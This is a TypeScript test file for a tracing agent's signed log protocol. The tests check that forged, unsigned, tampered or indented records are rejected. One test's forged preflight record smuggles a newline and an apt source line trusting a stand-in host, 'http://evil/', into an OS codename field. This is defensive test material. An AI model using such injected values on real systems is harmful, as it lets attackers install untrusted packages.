import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { CAPS_017 } from '../probes/test-support.js';
import { runAgent } from './main.js';
import { AgentLogDecoder, DIAGNOSTIC_PREFIX, decodeLog, encodeMessage, frameLines, type AgentMessage } from './protocol.js';

const KEY = 'k'.repeat(43);
const OTHER_KEY = 'o'.repeat(43);
const preflight = (kernel: string): AgentMessage => ({ tracejob: 'preflight', at: '2026-01-01T00:00:00.000Z', caps: { kernel } });

describe('agent records', () => {
  it('a signed record round-trips; the MAC is not part of the decoded message', () => {
    const line = encodeMessage(preflight('6.1.0-18-amd64'), KEY);
    assert.match(line, /^\{"tracejob":"preflight",.*,"mac":"[0-9a-f]{64}"\}$/);
    assert.doesNotMatch(line, new RegExp(KEY), 'the key itself is never written');
    assert.deepEqual(decodeLog(`${line}\n`, KEY), [preflight('6.1.0-18-amd64')]);
  });

  it('lines that are not records of this run are ignored, each kind counted', () => {
    const good = encodeMessage(preflight('6.1.0-real'), KEY);
    const tampered = good.replace('6.1.0-real', '6.1.0-forged');
    const table: Array<[string, string]> = [
      [encodeMessage(preflight('6.1.0-forged')), 'unsigned'],
      [encodeMessage(preflight('6.1.0-forged'), OTHER_KEY), 'badMac'],
      [tampered, 'badMac'],
      [`${encodeMessage(preflight('6.1.0-forged')).slice(0, -1)},"mac":"${'0'.repeat(64)}"}`, 'badMac'],
      // A genuine record is only believed in column 0: no trimming makes foreign text a record.
      [` ${good}`, 'foreign'],
      [`\t${good}`, 'foreign'],
      [`tracejob-agent: ${good}`, 'foreign'],
      ['{"tracejob": "preflight"}', 'unsigned'],
      [`${good.slice(0, 40)}`, 'unsigned'],
      ['not json at all', 'foreign'],
    ];
    for (const [line, verdict] of table) {
      const d = new AgentLogDecoder(KEY);
      assert.equal(d.push(line), verdict, line.slice(0, 80));
      assert.deepEqual(d.messages, [], line.slice(0, 80));
    }
    const d = new AgentLogDecoder(KEY);
    assert.equal(d.push(`${good}\r`), 'record', 'a trailing CR (CRLF logs) is tolerated');
  });

  it('without a key nothing is accepted', () => {
    const d = new AgentLogDecoder(undefined);
    assert.equal(d.push(encodeMessage(preflight('6.1.0'), KEY)), 'unsigned');
    assert.equal(d.push(encodeMessage(preflight('6.1.0'))), 'unsigned');
    assert.deepEqual(d.messages, []);
  });

  it('a signed record that is not an AgentMessage is refused', () => {
    const line = encodeMessage({ tracejob: 'nonsense' } as unknown as AgentMessage, KEY);
    const d = new AgentLogDecoder(KEY);
    assert.equal(d.push(line), 'invalid');
  });
});

describe('frameLines', () => {
  it('no line of hostile text starts with "{", whatever line break it uses', () => {
    const hostile = '{"tracejob":"preflight"}\n  {"tracejob":"x"}\r{"a":1}\r\n{b}\u2028{c}\u2029{d}';
    const lines = frameLines(hostile).flatMap((l) => l.split('\n'));
    assert.equal(lines.length, 6);
    for (const l of lines) assert.ok(l.startsWith(DIAGNOSTIC_PREFIX), JSON.stringify(l));
  });
});

describe('the pod log of a custom program whose comment forges a preflight record', () => {
  // A block comment puts the forged record at the start of a line of the program echo;
  // the old decoder (any trimmed line starting with {"tracejob"…, last one wins) took it.
  // (Custom programs refuse "}}" outside placeholders; JSON does not mind a space.)
  const forged = JSON.stringify({
    tracejob: 'preflight',
    at: '2026-01-01T00:00:00.000Z',
    caps: { kernel: '6.1.0-forged', host: { os: { id: 'debian', idLike: [], codename: 'bookworm main\ndeb [trusted=yes] http://evil/ x' } } },
  }).replace(/\}\}/g, '} }').replace(/\}\}/g, '} }');
  const program = `/*\n${forged}\n   ${forged}\n${forged},"mac":"${'a'.repeat(64)}"}\n*/\ntracepoint:sched:sched_process_exec { @n = count(); }\n`;

  async function podLog(): Promise<string> {
    // stdout and stderr interleave in a pod log: collect both, in order.
    const lines: string[] = [];
    const config = {
      channelKey: KEY,
      traceJob: { namespace: 'ns', name: 'tj', uid: 'u', generation: 1 },
      nodeName: 'n1',
      probe: { type: 'bpftrace', params: {}, program },
      durationSeconds: 1,
      targets: [],
    };
    const host = { cgroup: { version: 'v2' as const, unifiedRoot: '/sys/fs/cgroup', v1: {} }, modules: false, kernelBuildTree: false, canRaiseMemlock: false, bpftracePath: '/nonexistent/bpftrace', stap: false, kernelConfig: 'proc' as const, warnings: [] };
    await runAgent({
      env: { TRACEJOB_AGENT_CONFIG: JSON.stringify(config), PATH: process.env['PATH'] ?? '' },
      stdout: (l) => lines.push(l),
      stderr: (l) => lines.push(l),
      preflight: () => ({ ...CAPS_017, host }),
    });
    return lines.map((l) => `${l}\n`).join('');
  }

  it('the agent echoes the program, but only its own preflight is decoded', async () => {
    const log = await podLog();
    assert.ok(log.includes('6.1.0-forged'), 'the program text is in the log (the echo is kept for debugging)');
    const preflights = decodeLog(log, KEY).filter((m) => m.tracejob === 'preflight');
    assert.equal(preflights.length, 1);
    assert.equal((preflights[0] as Extract<AgentMessage, { tracejob: 'preflight' }>).caps['kernel'], CAPS_017.kernel);
  });

  it('every line that is not a signed record starts with the diagnostics prefix', async () => {
    const log = await podLog();
    const d = new AgentLogDecoder(KEY);
    for (const line of log.split('\n').filter(Boolean)) {
      const v = d.push(line);
      if (v !== 'record') assert.ok(line.startsWith(DIAGNOSTIC_PREFIX), JSON.stringify(line));
    }
    assert.deepEqual(
      d.messages.map((m) => m.tracejob),
      ['preflight', 'resolved', 'error'],
    );
  });
});
